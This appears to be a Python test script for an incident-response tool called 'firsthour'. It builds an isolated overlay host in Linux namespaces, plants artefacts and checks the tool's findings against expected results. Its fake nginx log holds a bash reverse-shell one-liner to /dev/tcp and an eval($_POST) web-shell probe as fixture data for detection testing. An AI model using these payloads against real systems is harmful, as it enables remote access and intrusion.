#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Runs the real `firsthour respond --live` on a host made for the purpose, and holds its findings against the truth.

  host.py BIN_DIR intrusion    everything of intrusion.tsv is planted: each row must be found, in JSON and in the report
  host.py BIN_DIR clean        an ordinary server: nothing of severity high or critical
  host.py BIN_DIR opt          an ordinary server with its software under /opt, just upgraded: the same

The host is this machine's root under an overlay, in fresh mount, PID, network, UTS and IPC namespaces: what is planted is
really there for the collectors, and gone afterwards. Exit 77: cannot be done here (the reason is printed).
"""
import json
import os
import pathlib
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time

HERE = pathlib.Path(__file__).resolve().parent
SEVERITIES = ["info", "low", "medium", "high", "critical"]
EMPTY = ["tmp", "var/tmp", "run", "root", "home", "var/log", "var/spool/cron", "opt", "srv", "var/www", "mnt", "media"]
ANSWERS = {
    "capacity": "contractor",
    "authority": {"given_by": "王建国", "unit": "某市公安局信息中心", "document": "授权 2026-017", "scope": "本机",
                  "medium": "U 盘 A-3", "may_leave_site": True},
    "people": [{"name": "李雷", "unit": "服务公司", "role": "处置人"}, {"name": "韩梅", "unit": "服务公司", "role": "记录人"}],
    "witness": {"name": "赵强", "unit": "信息中心", "eligible": True},
    "incident": {"name": "演练：网站服务器异常", "unit": "某市公安局", "system": "门户网站",
                 "reported": "2026-11-22T09:00:00+08:00", "accepted": "2026-11-22T09:02:00+08:00",
                 "dispatched": "2026-11-22T09:05:00+08:00", "arrived": "2026-11-22T09:41:00+08:00"},
}


def run(*command, **kwargs):
    return subprocess.run([str(word) for word in command], check=True, **kwargs)


# --- inside the namespaces ------------------------------------------------------------------------------------


def make_root(work, bin_dir):
    """Mounts the overlay at WORK/root and returns it."""
    layers, root = work / "layers", work / "root"
    for folder in (layers, root):
        folder.mkdir()
    run("mount", "-t", "tmpfs", "tmpfs", layers)
    for name in ("upper", "work"):
        (layers / name).mkdir()
    run("mount", "-t", "overlay", "overlay", "-o", f"lowerdir=/,upperdir={layers}/upper,workdir={layers}/work", root)
    run("mount", "-t", "proc", "proc", root / "proc")
    run("mount", "--bind", "/sys", root / "sys")
    run("mount", "--bind", "/dev", root / "dev")
    run("mount", "-t", "tmpfs", "tmpfs", root / "dev/shm")
    for name in EMPTY:
        (root / name).mkdir(parents=True, exist_ok=True)
        run("mount", "-t", "tmpfs", "-o", "mode=1777" if "tmp" in name else "mode=755", "tmpfs", root / name)
    for name, source in (("out", work), ("firsthour", bin_dir.parent), ("scene", HERE)):
        (root / "mnt" / name).mkdir()
        run("mount", "--bind", source, root / "mnt" / name)
    (root / ".firsthour-planted-host").write_text("made by tests/scenario/planted/host.py\n")
    for preload in ("etc/ld.so.preload",):
        (root / preload).unlink(missing_ok=True)
    return root


def ordinary_life():
    """What any server has: a web server, a shell on pipes, a log full of other people's attacks."""
    pathlib.Path("/var/www/html").mkdir(parents=True)
    pathlib.Path("/var/www/html/index.php").write_text(
        "<?php\n$name = $_POST['name'] ?? '';\nif (!preg_match('/^\\w+$/', $name)) { exit('bad name'); }\n"
        "echo htmlspecialchars($name);\nsystem('/usr/bin/uptime');\n")
    pathlib.Path("/var/log/nginx").mkdir(parents=True)
    pathlib.Path("/var/log/nginx/access.log").write_text(
        '203.0.113.9 - - [22/Nov/2026:03:00:00 +0800] "GET /?c=bash+-i+>&+/dev/tcp/203.0.113.9/4444+0>&1 HTTP/1.1" 404 1\n'
        '203.0.113.9 - - [22/Nov/2026:03:00:01 +0800] "POST /x.php?a=eval($_POST[1]) HTTP/1.1" 404 1\n' * 50)
    pathlib.Path("/root/.bash_history").write_text("apt update\ncurl -fsSL https://example.org/key.asc | gpg --dearmor\nls\n")
    ssh = pathlib.Path("/root/.ssh")
    ssh.mkdir(mode=0o700)
    keys = ssh / "authorized_keys"
    keys.write_text("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA admin@desk\n")
    keys.chmod(0o600)
    os.utime(keys, (1700000000, 1700000000))
    keep = dict(start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.Popen(["python3", "-m", "http.server", "8080", "--bind", "127.0.0.1", "-d", "/var/www/html"], **keep)
    subprocess.Popen(["bash", "-c", "while read -r line; do :; done; sleep 900"], stdin=subprocess.PIPE, **keep)
    left, right = socket.socketpair()
    subprocess.Popen(["sh", "-c", "sleep 900"], stdin=left, pass_fds=[right.fileno()], **keep)


def software_under_opt():
    """Java under /opt with its own unit and jobs; a daemon whose file was replaced by an upgrade while it runs."""
    app = pathlib.Path("/opt/app")
    for folder in ("jdk/bin", "bin", "lib", "html", "venv/bin"):
        (app / folder).mkdir(parents=True)
    shutil.copy("/bin/sleep", app / "jdk/bin/java")
    shutil.copy(os.path.realpath("/usr/bin/python3"), app / "venv/bin/python")
    (app / "bin/health.sh").write_text("#!/bin/sh\ncurl -sf http://127.0.0.1:8080/health || systemctl restart app\n")
    (app / "bin/health.sh").chmod(0o755)
    (app / "html/upload.php").write_text("<?php move_uploaded_file($_FILES['f']['tmp_name'], '/opt/app/data/' . md5($_POST['n']));\n")
    pathlib.Path("/etc/systemd/system/app.service").write_text(
        "[Service]\nUser=www-data\nExecStart=/opt/app/jdk/bin/java -jar /opt/app/lib/app.jar\nRestart=always\n")
    pathlib.Path("/etc/cron.d/app").write_text(
        "*/5 * * * * root /opt/app/bin/health.sh\n0 3 * * * root curl -fsS https://127.0.0.1/rotate -o /opt/app/rotate.json\n")
    pathlib.Path("/etc/profile.d/app.sh").write_text("export APP_HOME=/opt/app PATH=$PATH:/opt/app/bin\n")
    keep = dict(start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.Popen(["java", "900"], executable="/opt/app/jdk/bin/java", cwd="/opt/app", **keep)
    subprocess.Popen(["/opt/app/venv/bin/python", "-m", "http.server", "8090", "--bind", "0.0.0.0"], cwd="/opt/app/html", **keep)
    for daemon in ("/usr/sbin/appd", "/opt/app/bin/worker"):
        shutil.copy("/bin/sleep", daemon)
        subprocess.Popen([daemon, "900"], **keep)
        time.sleep(0.1)
        shutil.copy("/bin/true", daemon + ".new")
        os.rename(daemon + ".new", daemon)


def inside(work, bin_dir, scene):
    root = make_root(work, bin_dir)
    socket.sethostname("planted-host")
    run("ip", "link", "set", "lo", "up")
    os.chroot(root)
    os.chdir("/")
    ordinary_life()
    if scene == "opt":
        software_under_opt()
    if scene == "intrusion":
        with open("/mnt/out/planted", "w") as planted:
            run("python3", "/mnt/scene/plant.py", stdout=planted)
    pathlib.Path("/mnt/out/answers.json").write_text(json.dumps(ANSWERS, ensure_ascii=False))
    environment = {**os.environ, "HOME": "/mnt/out", "LC_ALL": "C.UTF-8"}
    done = subprocess.run(
        ["/mnt/firsthour/bin/firsthour", "respond", "/mnt/out/host.case", "--live", "--exercise", "--yes", "--profile", "standard",
         "--answers", "/mnt/out/answers.json"], env=environment, stdin=subprocess.DEVNULL, stdout=open("/mnt/out/stdout", "w"),
        stderr=open("/mnt/out/stderr", "w"))
    pathlib.Path("/mnt/out/exit").write_text(str(done.returncode))


# --- outside: what came of it ---------------------------------------------------------------------------------


def findings_of(case):
    rows = sqlite3.connect(f"file:{case}/case.sqlite?mode=ro", uri=True).execute("select bytes from event order by seq")
    events = [json.loads(row[0]) for row in rows]
    return [event["body"] for event in events if event["type"] == "finding"]


def describe(finding):
    target = finding.get("target", {})
    return f'{finding["severity"]}: {finding["rule"]}: {target.get("path", "")}: {finding.get("why", "")}'


def judge_intrusion(work, findings, report):
    planted = dict(line.split("\t")[1:3] for line in (work / "planted").read_text().splitlines() if line.startswith("planted"))
    problems, found = [], 0
    for line in (HERE / "intrusion.tsv").read_text().splitlines():
        if not line or line.startswith("#"):
            continue
        row, rule, target, least, what = line.split("\t")
        if row not in planted:
            print(f"not planted here: {row}")
            continue
        good = [f for f in findings if re.fullmatch(rule, f["rule"]) and target in json.dumps(f, ensure_ascii=False)
                and SEVERITIES.index(f["severity"]) >= SEVERITIES.index(least)]
        if not good:
            problems.append(f"not found: {row} ({what})")
        elif not any(f["rule"] in report or f.get("title", "\0") in report for f in good):
            problems.append(f"found, but not in the report: {row}")
        else:
            found += 1
    print(f"{found} of {len(planted)} planted things found")
    if len(planted) < 12:
        problems.append("fewer than twelve things could be planted")
    return problems


def judge_calm(findings):
    return [f"alarm on an ordinary server: {describe(f)}" for f in findings if f["severity"] in ("high", "critical")]


def judge(work, bin_dir, scene):
    status = (work / "exit").read_text()
    problems = [] if status == "0" else [f"respond ended with {status}"]
    verified = subprocess.run([bin_dir / "firsthour", "case", "verify", work / "host.case"], capture_output=True, text=True,
                              env={**os.environ, "HOME": str(work)})
    if verified.returncode != 0:
        problems.append(f"case verify ended with {verified.returncode}: {verified.stdout}{verified.stderr}")
    findings = findings_of(work / "host.case")
    reports = "".join(p.read_text(errors="replace") for p in work.rglob("*.html"))
    problems += judge_intrusion(work, findings, reports) if scene == "intrusion" else judge_calm(findings)
    if problems:
        print("\n".join(problems))
        print("--- all findings:", *sorted(map(describe, findings)), "--- stderr:", (work / "stderr").read_text(), sep="\n")
    return 1 if problems else 0


def main():
    bin_dir, scene = pathlib.Path(sys.argv[1]).resolve(), sys.argv[2]
    if len(sys.argv) > 3:
        return inside(pathlib.Path(sys.argv[3]), bin_dir, scene)
    if os.geteuid() != 0:
        print("needs root, for namespaces and an overlay")
        return 77
    work = pathlib.Path(tempfile.mkdtemp(prefix="firsthour-planted-", dir="/var/tmp"))
    try:
        made = subprocess.run(["unshare", "--mount", "--pid", "--net", "--uts", "--ipc", "--fork", "--kill-child", "--propagation",
                               "private", "--mount-proc", "/usr/bin/python3", __file__, bin_dir, scene, work])
        if not (work / "exit").exists():
            print("the host could not be made" + (": no namespaces here" if made.returncode == 1 else ""))
            return 1 if subprocess.run(["unshare", "-mpnf", "true"]).returncode == 0 else 77
        return judge(work, bin_dir, scene)
    finally:
        if os.environ.get("KEEP"):
            print("kept", work)
        else:
            shutil.rmtree(work, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
